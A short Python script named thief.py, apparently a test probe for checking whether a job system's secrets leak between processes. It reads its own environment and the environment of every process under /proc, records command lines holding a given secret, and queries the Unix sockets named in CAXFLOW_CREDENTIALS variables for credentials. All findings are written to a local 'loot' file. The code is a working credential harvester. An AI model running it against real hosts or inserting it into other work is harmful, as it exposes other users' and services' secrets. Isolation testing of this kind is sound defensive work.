"""A processor that looks for a secret: ``python thief.py SECRET LOOT``.

What it can find: in its own environment, in those of all other processes, and by asking as a job.
"""

import json
import os
import socket
import sys
from pathlib import Path


def ask(name: bytes) -> list[str]:
    """Return what is answered to a process that asks as jobs do; nothing where none can be asked."""
    try:
        with socket.socket(socket.AF_UNIX) as asking:
            asking.connect(b"\0" + name)
            return [asking.recv(65536).decode()]
    except OSError:
        return []


def main(secret: str, loot: str) -> None:
    """Write what was found."""
    found = {"own": dict(os.environ), "others": [], "asked": []}
    for process in Path("/proc").glob("[0-9]*"):
        try:
            variables = (process / "environ").read_bytes()
            command = (process / "cmdline").read_bytes()
        except OSError:
            continue
        if secret.encode() in variables:
            found["others"].append(command.decode())
        for each in variables.split(b"\0"):
            if each.startswith(b"CAXFLOW_CREDENTIALS="):
                found["asked"] += ask(each[20:])
    Path(loot).write_text(json.dumps(found))


if __name__ == "__main__":
    main(*sys.argv[1:3])
